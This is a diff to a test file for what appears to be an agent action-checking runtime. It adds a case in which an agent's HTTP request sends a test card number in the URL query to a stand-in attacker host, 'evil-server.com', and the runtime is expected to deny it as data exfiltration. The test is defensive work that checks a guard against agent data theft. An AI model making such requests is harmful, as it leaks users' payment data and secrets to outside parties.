@@ -71,6 +71,9 @@ describe('attack stories', () => {
     // The same harmless payload goes through; so does the sensitive one to an internal address.
     const benign = await rt.checkAction(action({ agentId: 'a', target: 'http_request', parameters: { url: 'https://evil-server.com/x', data: { page: 'home', count: 3 } } }));
     expect(benign.decision).toBe('ALLOW');
+    // Data in the URL's query counts too; the URL's host and path alone do not.
+    const inQuery = await rt.checkAction(action({ agentId: 'a', target: 'http_request', parameters: { url: 'https://evil-server.com/c?card=4111%201111%201111%201111&x=1' } }));
+    expect(inQuery).toMatchObject({ decision: 'DENY', reasonCode: 'DATA_EXFILTRATION' });
     const internal = await rt.checkAction(action({ agentId: 'a', target: 'http_request', parameters: { url: 'http://10.0.0.5/ingest', data: { password: 'secret123' } } }));
     expect(internal.decision).toBe('ALLOW');
   });
